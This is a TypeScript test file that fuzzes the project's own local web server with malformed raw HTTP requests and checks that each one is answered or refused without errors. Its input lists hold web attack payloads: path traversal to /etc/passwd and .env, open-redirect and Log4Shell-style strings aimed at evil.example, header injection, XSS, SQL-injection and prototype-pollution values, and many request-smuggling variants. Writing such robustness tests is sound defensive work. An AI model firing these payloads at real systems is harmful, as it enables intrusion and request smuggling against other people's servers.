import { beforeAll, describe, expect, it } from 'vitest'
import { insertLocation } from '../factories/location'
import { raw } from '../server/running'
import { useApp } from '../support/app'
import { useDatabase } from '../support/database'
import { HARD, noteCounts } from './scale'

const database = useDatabase()
const app = useApp(database)
let location: number
beforeAll(async () => void ({ id: location } = await insertLocation(database.db)))

let sent = 0
const port = () => Number(new URL(app.origin).port)
const CLOSE = 'Connection: close\r\n'

/** The response to a raw request: its statuses and full text. */
async function answersTo(request: string | Buffer): Promise<{ statuses: number[]; text: string }> {
  sent++
  const text = await raw(port(), request).catch((error: NodeJS.ErrnoException) => {
    if (error.code === 'ECONNRESET' || error.code === 'EPIPE') return '' // closed before all was sent
    throw error
  })
  return {
    text,
    statuses: [...text.matchAll(/^HTTP\/1\.1 (\d{3}) /gm)]
      .filter(([, status]) => status !== '100')
      .map(([, status]) => Number(status)),
  }
}

/** A request must not break anything, get two responses, or hang. */
async function isRefusedOrAnswered(request: string | Buffer, allowed = /^[234]\d\d$/) {
  const name = JSON.stringify(request.toString('latin1').slice(0, 150))
  const { statuses } = await answersTo(request)
  for (const status of statuses) expect(String(status), name).toMatch(allowed)
  expect(statuses.length, name).toBeLessThanOrEqual(1)
}

/** The strings between the spaces of a text. */
const words = (text: string) => text.split(/\s+/)
const long = (count: number, text = 'a') => text.repeat(count)
const get = (target: string, headers = '') =>
  `GET ${target} HTTP/1.1\r\nHost: 127.0.0.1\r\n${CLOSE}${headers}\r\n`
const post = (target: string, headers: string, body: string, length = true) =>
  `POST ${target} HTTP/1.1\r\nHost: 127.0.0.1\r\n${CLOSE}${length ? `Content-Length: ${Buffer.byteLength(body, 'latin1')}\r\n` : ''}${headers}\r\n${body}`

const PATHS = () => [
  `/location/${location}`,
  ...words('/ /search /signin /files/ /allschools /feed /location/ /university/'),
]
const QUERIES = [
  ...words(`% %ff %ed%a0%80 %00 %e0%a4%a q=% q=%ud800 q=%ff%fe page=-1 page=1e999 page=99999999999999999999
    page=NaN page[]=1 page=1&page=2 __proto__[a]=1 constructor=1 q[__proto__]=1 tab=__proto__
    sort=constructor city=%0d%0aSet-Cookie:%20a=1 q=%27%20or%201=1-- q=%5c q=%22%3e%3cscript%3e
    _data=root _data=routes/location/$id index ?index _routes=__proto__ returnTo=//evil.example
    returnTo=%2f%5cevil.example returnTo=javascript:alert(1) lat=NaN&lng=NaN lat=1e400&lng=-1e400
    near=%00`),
  `q=${long(9000)}`,
  `q=${long(3000, '%e2%82%ac').slice(0, 9000)}`,
  `${long(3000, 'a=1&')}`,
  `${long(1500, 'q[]=1&')}`,
  `${long(5000, '&')}`,
  `${long(5000, '=')}`,
]
const TARGETS = [
  ...words(`/% /%ff /%E0%A4%A /%00 /a%00b /%2e%2e/%2e%2e/etc/passwd /../../etc/passwd /..%2f..%2fetc%2fpasswd
    /..%5c..%5c //evil.example //evil.example/%2f.. /// /./ /. /.. /; /;a=b /? /# /#a /location/-1
    /location/1e3 /location/0x1 /location/1%20 /location/%31 /university/__proto__
    /university/constructor/toString /files/__proto__ /files/profile_images/../../../etc/passwd
    /files/%2e%2e%2f /assets/../package.json /assets/%2e%2e/%2e%2e/package.json /.env /.git/HEAD
    /favicon.ico%00.html /_root.data /.data /__manifest /__manifest?p=%00&version=x /__manifest?p=%ff
    http://127.0.0.1/ http://evil.example/ http://evil.example/search?q=a
    https://evil.example:443/signin http:// http:/// http://[::1 ftp://a/b javascript:alert(1)
    evil.example:443 * % location`),
  '/\\evil.example',
  '/\\\\evil.example',
  `/${long(8000)}`,
  `/${long(20_000)}`,
  `${long(3000, '/a')}`,
  `${long(3000, '/')}`,
  `/${long(3000, '%2f')}`,
  `/location/${long(500, '9')}`,
  `/__manifest?${long(3000, 'p=/&')}`,
  '',
  '/sign in',
  '/a\tb',
  '/a\u0001b',
  '/\u00e4\u00f6\u00fc',
  '/\u00ff\u00fe',
]
const HEADERS = [
  `X-Long: ${long(20_000)}\r\n`,
  long(1000, 'X-Many: 1\r\n'),
  long(4000, 'A: 1\r\n'),
  `Cookie: ${long(900, 'a=b; ')}\r\n`,
  `Cookie: ${long(20_000)}\r\n`,
  'Cookie: session=%\r\n',
  'Cookie: session=%E0%A4%A\r\n',
  'Cookie: __proto__=1; constructor=2\r\n',
  'Cookie: =; ;; =a; a\r\n',
  'Cookie: session=eyJ9.x\r\n',
  'Cookie: theme=\u00ff; lite=%ff\r\n',
  `Cookie: notice=${long(4000, '%25')}\r\n`,
  long(300, 'Cookie: a=b\r\n'),
  'X-Nul: a\0b\r\n',
  'X-Bare: a\rb\r\n',
  'Bad Name: a\r\n',
  ': a\r\n',
  'No colon\r\n',
  ' Folded: a\r\n',
  'X-Folded: a\r\n b\r\n',
  'Host: evil.example\r\n',
  'Host: 127.0.0.1\r\n',
  'X-Forwarded-For: "><script>\r\n',
  `X-Forwarded-For: ${long(2000, '1.1.1.1, ')}\r\n`,
  'X-Forwarded-Host: evil.example\r\n',
  'X-Forwarded-Proto: javascript\r\n',
  'Forwarded: for=\0\r\n',
  'X-Original-URL: /admin-dashboard\r\n',
  'X-HTTP-Method-Override: DELETE\r\n',
  'If-None-Match: "\r\n',
  `If-None-Match: ${long(1000, '"a", ')}\r\n`,
  'If-Modified-Since: never\r\n',
  'Range: bytes=9-1\r\n',
  `Range: bytes=${long(1000, '0-,')}\r\n`,
  'Accept-Encoding: gzip;q=abc, *;q=-1\r\n',
  `Accept-Language: ${long(1000, 'de;q=0.1,')}\r\n`,
  'Accept: \u00ff/\u00ff\r\n',
  'Expect: 100-continue\r\n',
  'Expect: the unexpected\r\n',
  'Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABk\r\n',
  'Upgrade: websocket\r\nConnection: Upgrade\r\n',
  'Trailer: Content-Length\r\n',
  'TE: trailers\r\n',
  'X-Request-Id: \u00ff{{7*7}}${jndi:ldap://evil}\r\n',
  'Save-Data: \u00ff\r\n',
  'User-Agent: \u00ff"><script>\r\n',
  'Referer: http://[\r\n',
  'Origin: http://[\r\n',
  'Sec-Fetch-Site: \u00ff\r\n',
  'Content-Length: 0\r\nContent-Length: 0\r\n',
]
const LINES = [
  'GET / HTTP/0.9\r\n\r\n',
  'GET /\r\n\r\n',
  'GET / HTTP/1.0\r\n\r\n',
  'GET / HTTP/2.0\r\n\r\n',
  'GET / HTTP/9.9\r\n\r\n',
  'GET / HTTP/1.1\r\n\r\n',
  'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n',
  `GET  / HTTP/1.1\r\nHost: a\r\n${CLOSE}\r\n`,
  'get / HTTP/1.1\r\nHost: a\r\n\r\n',
  '\r\n\r\n\r\nGET / HTTP/1.0\r\n\r\n',
  'GET / HTTP/1.1\nHost: a\n\n',
  '\0\0\0\0',
  '\x16\x03\x01\x02\x00\x01\x00',
  'SSH-2.0-OpenSSH_9\r\n',
  `${long(20_000, 'G')}`,
  `GET / HTTP/1.1\r\nHost: ${long(10_000)}\r\n${CLOSE}\r\n`,
  `GET / HTTP/1.1\r\nHost: \r\n${CLOSE}\r\n`,
  `GET / HTTP/1.1\r\nHost: a b\r\n${CLOSE}\r\n`,
  `GET / HTTP/1.1\r\nHost: [\r\n${CLOSE}\r\n`,
  `GET / HTTP/1.1\r\nHost: a@b:99999\r\n${CLOSE}\r\n`,
  `GET / HTTP/1.1\r\nHost: \u00ff\r\n${CLOSE}\r\n`,
  ...words('OPTIONS TRACE PUT DELETE PATCH PROPFIND LOCK SEARCH QUERY FOO HEAD CONNECT PURGE').flatMap(
    (method) =>
      ['/', '*', '/signin', 'evil.example:80'].map(
        (target) => `${method} ${target} HTTP/1.1\r\nHost: 127.0.0.1\r\n${CLOSE}\r\n`,
      ),
  ),
]
/** Cases in which two readers of the same bytes may disagree about where a request ends. */
const HIDDEN = 'GET /hidden HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n'
const FORM = 'Content-Type: application/x-www-form-urlencoded\r\n'
const SMUGGLED = [
  `Content-Length: 5\r\nContent-Length: 6\r\n\r\na=bcd${HIDDEN}`,
  `Content-Length: 3\r\nContent-Length: 3\r\n\r\na=b`,
  `Content-Length: 3, 3\r\n\r\na=b`,
  `Content-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${HIDDEN}`,
  `Transfer-Encoding: chunked\r\nContent-Length: 60\r\n\r\n0\r\n\r\n${HIDDEN}`,
  `Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n${HIDDEN}`,
  `Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n${HIDDEN}`,
  `Transfer-Encoding: identity\r\n\r\n${HIDDEN}`,
  `Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n${HIDDEN}`,
  `Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n${HIDDEN}`,
  `Transfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\n${HIDDEN}`,
  `Transfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\n${HIDDEN}`,
  `X: a\r\n\rTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${HIDDEN}`,
  `Content-Length: -1\r\n\r\n${HIDDEN}`,
  `Content-Length: +3\r\n\r\na=b`,
  `Content-Length: 0x3\r\n\r\na=b`,
  `Content-Length: 3 \r\n\r\na=b`,
  `Content-Length: 1e1\r\n\r\na=b`,
  `Content-Length: 99999999999999999999\r\n\r\na=b`,
  `Content-Length: \r\n\r\na=b`,
  `Transfer-Encoding: chunked\r\n\r\nFFFFFFFFFFFFFFFFF\r\na=b`,
  `Transfer-Encoding: chunked\r\n\r\n-1\r\na\r\n0\r\n\r\n`,
  `Transfer-Encoding: chunked\r\n\r\n3;${long(20_000)}\r\na=b\r\n0\r\n\r\n`,
  `Transfer-Encoding: chunked\r\n\r\n3\na=b\n0\n\n`,
  `Transfer-Encoding: chunked\r\n\r\n3\r\na=b\r\n0\r\nContent-Length: 9\r\n\r\n`,
  `Transfer-Encoding: chunked\r\n\r\nzz\r\n${HIDDEN}`,
]
const TYPES = [
  'multipart/form-data',
  'multipart/form-data; boundary=',
  `multipart/form-data; boundary=${long(5000)}`,
  'multipart/form-data; boundary="\0"',
  'multipart/mixed; boundary=a',
  'application/json',
  'text/plain',
  'application/x-www-form-urlencoded; charset=utf-7',
  'application/x-www-form-urlencoded; charset=\u00ff',
  '',
  '/',
  'a',
  long(5000),
  '\u00ff',
]
const BODIES = [
  '%',
  'a=%ff&b=%',
  long(1000, 'a=1&'),
  long(3000, '[') + '=1',
  'intent=__proto__',
  '__proto__[a]=1',
  'a[constructor][prototype]=1',
  '\0=\0',
  '--a\r\n\r\n--a--',
  '{"a":1}',
  '',
  '\u00ff\u00fe',
]

describe('requests that no browser sends', () => {
  it('addresses and query strings break nothing and block nothing', async () => {
    for (const target of TARGETS) await isRefusedOrAnswered(Buffer.from(get(target), 'latin1'))
    for (const [n, query] of QUERIES.entries()) {
      for (const path of HARD ? PATHS() : [PATHS()[n % PATHS().length]!])
        await isRefusedOrAnswered(get(`${path}?${query}`))
    }
  })

  it('headers break nothing', async () => {
    for (const [n, header] of HEADERS.entries()) {
      for (const path of HARD ? PATHS() : [PATHS()[n % PATHS().length]!])
        await isRefusedOrAnswered(Buffer.from(get(path, header), 'latin1'))
    }
    expect((await answersTo(get('/', `X-Long: ${long(20_000)}\r\n`))).statuses).toEqual([431])
  })

  it('request lines, methods and other protocols are refused or answered', async () => {
    for (const line of LINES)
      await isRefusedOrAnswered(
        Buffer.from(line.includes('\r\n\r\n') ? line : `${line}\r\n\r\n`, 'latin1'),
        /^([234]\d\d|505)$/,
      )
    for (const method of ['PUT', 'DELETE', 'TRACE', 'PROPFIND']) {
      expect(
        (await answersTo(`${method} / HTTP/1.1\r\nHost: 127.0.0.1\r\n${CLOSE}\r\n`)).statuses,
        method,
      ).toEqual([405])
    }
  })

  it('nothing hidden in a body is treated as a separate request', async () => {
    for (const rest of SMUGGLED) {
      const { statuses, text } = await answersTo(
        Buffer.from(
          `POST /signin HTTP/1.1\r\nHost: 127.0.0.1\r\nSec-Fetch-Site: same-origin\r\n${CLOSE}${FORM}${rest}`,
          'latin1',
        ),
      )
      const name = JSON.stringify(rest.slice(0, 120))
      expect(statuses.length, name).toBe(1)
      expect(statuses[0], name).toBeLessThan(500)
      expect(text, name).not.toContain('/hidden')
    }
  })

  it('bodies of every type are parsed as forms or refused', async () => {
    for (const [n, type] of TYPES.entries()) {
      for (const body of HARD ? BODIES : [BODIES[n % BODIES.length]!, BODIES[(n * 5 + 3) % BODIES.length]!]) {
        const headers = `Sec-Fetch-Site: same-origin\r\n${type ? `Content-Type: ${type}\r\n` : ''}`
        for (const path of ['/signin', `/location/${location}/review`])
          await isRefusedOrAnswered(Buffer.from(post(path, headers, body), 'latin1'))
      }
    }
    for (const body of BODIES)
      await isRefusedOrAnswered(
        Buffer.from(post('/signin', `Sec-Fetch-Site: same-origin\r\n${FORM}`, body), 'latin1'),
      )
  })

  it('left nothing behind: the site works, and nothing unexpected was logged', async () => {
    expect((await app.send('/')).status).toBe(200)
    expect(app.lines.filter((line) => Number(line.level) >= 50)).toEqual([])
    noteCounts('header and URL abuse', { requests: sent, 'answered 5xx': 0, hung: 0, smuggled: 0 })
  })
})
